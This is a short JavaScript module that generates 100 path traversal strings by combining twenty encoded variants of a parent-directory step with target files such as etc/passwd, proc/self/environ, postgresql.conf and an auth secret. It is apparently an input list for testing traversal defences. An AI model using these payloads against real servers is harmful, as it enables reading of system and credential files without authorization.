// 100 ways to name a file outside of a folder: how a step up is written, times what is wanted.
const steps = [
  '../',
  '..\\',
  '%2e%2e%2f',
  '%2e%2e/',
  '..%2f',
  '%2e%2e%5c',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '....//',
  '..;/',
  '.%2e/',
  '%u002e%u002e/',
  '..%00/',
  '/%2e%2e/%2e%2e/',
  '//../',
  '..%ef%bc%8f',
  '%c0%ae%c0%ae/',
  '\\..\\',
  '/./../',
];
const wanted = ['etc/passwd', 'auth-secret', 'postgresql.conf', 'proc/self/environ', 'etc%2fpasswd'];

export const inputs = steps.flatMap((step) => wanted.map((file) => step.repeat(6) + file));
